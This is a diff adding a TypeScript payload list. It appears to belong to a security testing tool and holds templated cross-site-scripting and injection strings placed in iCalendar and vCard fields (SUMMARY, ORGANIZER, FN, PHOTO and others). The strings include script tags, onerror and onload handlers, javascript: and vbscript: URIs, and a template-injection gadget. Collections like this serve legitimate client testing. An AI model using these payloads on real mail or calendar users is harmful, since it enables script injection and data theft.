@@ -1,0 +1,43 @@
+/** Lines of calendars and address cards, which mail programs act on: each is a payload of its own. */
+
+export const CALENDAR: readonly string[] = [
+  'SUMMARY:<script>{js}</script>',
+  'LOCATION:"><img src=x onerror={js}>',
+  'URL:javascript:{js}',
+  'URL;VALUE=URI:{url}',
+  'ATTACH:{url}',
+  'ATTACH;FMTTYPE=text/html;ENCODING=BASE64;VALUE=BINARY;X="{js}":PHNjcmlwdD4=',
+  'DESCRIPTION:<svg onload={js}>',
+  'DESCRIPTION;ALTREP="{url}":x',
+  'X-ALT-DESC;FMTTYPE=text/html:<html><script>{js}</script><img src="{url}"></html>',
+  'ORGANIZER;CN="<script>{js}</script>":mailto:eve@example.org',
+  'ORGANIZER;DIR="{url}";SENT-BY="javascript:{js}":mailto:eve@example.org',
+  'ATTENDEE;CN="><svg onload={js}>;RSVP=TRUE:mailto:ada@example.org',
+  'ATTENDEE:javascript:{js}',
+  'CONTACT;ALTREP="{url}":</script><script>{js}</script>',
+  'COMMENT:</textarea><img src=x onerror={js}>',
+  'CATEGORIES:<b onclick={js}>,x',
+  'RESOURCES:{{constructor.constructor(`{js}`)()}}',
+  'UID:"><script>{js}</script>',
+  'TZID:../../{js}',
+  'CONFERENCE;VALUE=URI:{url}',
+  'IMAGE;VALUE=URI;DISPLAY=BADGE:{url}',
+  'STYLED-DESCRIPTION;VALUE=TEXT:<style>@import "{url}"</style><script>{js}</script>',
+  'X-MICROSOFT-SKYPETEAMSMEETINGURL:javascript:{js}',
+  'RRULE:FREQ=SECONDLY;X="{js}"',
+];
+
+export const CARD: readonly string[] = [
+  'FN:<script>{js}</script>',
+  'N:"><img src=x onerror={js}>;x;;;',
+  'PHOTO;VALUE=uri:{url}',
+  'LOGO;VALUE=uri:javascript:{js}',
+  'SOUND;VALUE=uri:{url}',
+  'URL:javascript:{js}',
+  'NOTE:</pre><svg onload={js}>',
+  'ORG:</title><script>{js}</script>',
+  'EMAIL;TYPE="><b onclick={js}>:eve@example.org',
+  'KEY;VALUE=uri:{url}',
+  'SOURCE:{url}',
+  'X-SOCIALPROFILE:vbscript:{js}',
+];
